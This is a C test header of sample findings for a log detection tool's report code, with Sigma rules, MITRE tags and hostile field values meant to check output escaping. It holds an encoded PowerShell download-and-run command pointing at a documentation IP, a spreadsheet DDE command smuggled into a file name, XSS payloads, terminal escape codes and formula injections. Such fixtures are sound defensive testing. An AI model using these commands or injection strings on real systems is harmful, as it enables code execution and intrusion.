/*
 * Findings for the tests of reports, hostile ones among them, and the inputs they name. Included by
 * tests of src/report alone; the list of inputs stands in for the intake's.
 */
#ifndef TESTS_UNIT_REPORT_SAMPLE_H
#define TESTS_UNIT_REPORT_SAMPLE_H

#include "detect/findings.h"
#include "intake/intake.h"

struct inputs {
    struct input list[3];
};

static struct inputs sample_inputs = {{
    {.name = {"logs/Security.evtx", 18}},
    {.name = {"evidence.zip/日本/Sysmon.evtx", 31}},
    {.name = {"=cmd|' /C calc'!A0.json", 23}},
}};

size_t inputs_count(const struct inputs *in)
{
    return sizeof in->list / sizeof *in->list;
}

const struct input *inputs_get(const struct inputs *in, uint32_t number)
{
    return &in->list[number];
}

#define TEXT(literal)                                                                              \
    {                                                                                              \
        (literal), sizeof(literal) - 1                                                             \
    }

static struct slice tags_of_powershell[] = {
    {"attack.execution", 16}, {"attack.t1059.001", 16}, {"detection.threat-hunting", 24}};
static struct slice tags_of_dumping[] = {{"attack.credential-access", 24},
                                         {"attack.t1003.001", 16},
                                         {"attack.t1003.002", 16},
                                         {"cve.2021-1675", 13}};
static struct slice tags_of_spraying[] = {
    {"attack.credential_access", 24}, {"attack.initial-access", 21}, {"attack.T1110", 12}};

static const struct sigma_rule sample_rules[] = {
    {.id = TEXT("8d01b53f-456f-48ee-90f6-bc28e67d4e35"),
     .title = TEXT("Suspicious Obfuscated PowerShell Code"),
     .level = LEVEL_HIGH,
     .description = TEXT("Detects commands that hide what they run."),
     .tags = tags_of_powershell,
     .tags_n = 3,
     .index = 0},
    {.id = TEXT("a49fa4d5-11db-418c-8473-1e014a8dd462"),
     .title = TEXT("LSASS Memory Dump <script>alert(1)</script>"),
     .level = LEVEL_CRITICAL,
     .tags = tags_of_dumping,
     .tags_n = 4,
     .index = 1},
    {.title = TEXT("パスワードスプレー攻撃の疑い"),
     .level = LEVEL_MEDIUM,
     .tags = tags_of_spraying,
     .tags_n = 3,
     .index = 2},
    {.id = TEXT("1"), .title = TEXT("Logon"), .level = LEVEL_INFORMATIONAL, .index = 3},
    {.title = TEXT("=HYPERLINK(\"http://x\")"), .level = LEVEL_NONE, .index = 4},
};

static struct origin sample_events[] = {{0, 4711}, {1, 2}, {0, 18}, {0, 19}, {2, 1}};

static struct finding_field fields_of_powershell[] = {
    {TEXT("Image"), TEXT("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")},
    {TEXT("CommandLine"),
     TEXT(
         "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO"
         "AGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB"
         "0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA== \"& { Get-Process "
         "| Where-Object { $_.CPU -gt 10 } | Sort-Object CPU -Descending | Select-Object -First 5 }"
         "\"")},
    {TEXT("User"), TEXT("CORP\\佐藤")},
};
/* whatever steers terminals, browsers and spreadsheets */
// NOLINTBEGIN(misc-misleading-bidirectional): that is the point
static struct finding_field fields_hostile[] = {
    {TEXT("CommandLine"), TEXT("\x1b]0;owned\x07\x1b[2J\r\n\t</script><img src=x onerror=alert(1)>"
                               "\xe2\x80\xae"
                               "fdp.exe \xff\xfe\xc2\x9b"
                               "31m --> ]]> & \"'\\")},
    {TEXT("=1+1"), TEXT("=1+1,\"quoted\"\nsecond line")},
    {TEXT("CommandLine"), TEXT("the name comes twice")},
    {TEXT("__proto__"), TEXT("@SUM(1)")},
    {TEXT("Empty"), TEXT("")},
};
// NOLINTEND(misc-misleading-bidirectional)
static struct finding_field fields_of_spraying[] = {
    {TEXT("IpAddress"), TEXT("203.0.113.20")},
    {TEXT("TargetUserName"), TEXT("12 distinct")},
};

/* 2026-11-10T01:23:41.1234567Z and later */
#define SAMPLE_TIME INT64_C(1794273821123456700)

static const struct finding sample_findings[] = {
    {.rule = &sample_rules[0],
     .time = SAMPLE_TIME,
     .first = SAMPLE_TIME,
     .count = 1,
     .events = &sample_events[0],
     .events_n = 1,
     .host = TEXT("PC-042.corp.example"),
     .channel = TEXT("Microsoft-Windows-Sysmon/Operational"),
     .provider = TEXT("Microsoft-Windows-Sysmon"),
     .code = TEXT("1"),
     .fields = fields_of_powershell,
     .fields_n = 3},
    {.rule = &sample_rules[1],
     .time = SAMPLE_TIME + 61 * NS_PER_SECOND + 12,
     .first = SAMPLE_TIME + 61 * NS_PER_SECOND + 12,
     .count = 1,
     .events = &sample_events[1],
     .events_n = 1,
     .host = TEXT("経理部-ノートPC-その七の長い名前"),
     .channel = TEXT("Microsoft-Windows-Sysmon/Operational"),
     .provider = TEXT("Microsoft-Windows-Sysmon"),
     .code = TEXT("10"),
     .fields = fields_hostile,
     .fields_n = 5},
    {.rule = &sample_rules[2],
     .time = SAMPLE_TIME + 3600 * NS_PER_SECOND,
     .first = SAMPLE_TIME + 3000 * NS_PER_SECOND,
     .count = 57,
     .events = &sample_events[2],
     .events_n = 2,
     .host = TEXT("DC1"),
     .channel = TEXT("Security"),
     .provider = TEXT("Microsoft-Windows-Security-Auditing"),
     .code = TEXT("4625"),
     .fields = fields_of_spraying,
     .fields_n = 2},
    {.rule = &sample_rules[3],
     .time = SAMPLE_TIME + 90000 * NS_PER_SECOND,
     .first = SAMPLE_TIME + 90000 * NS_PER_SECOND,
     .count = 1,
     .events = &sample_events[3],
     .events_n = 1,
     .host = TEXT("DC1"),
     .channel = TEXT("Security"),
     .code = TEXT("4624")},
    {.rule = &sample_rules[4],
     .time = TIMESTAMP_NONE,
     .first = TIMESTAMP_NONE,
     .count = 1,
     .events = &sample_events[4],
     .events_n = 1},
};
enum { SAMPLE = sizeof sample_findings / sizeof *sample_findings };

#endif
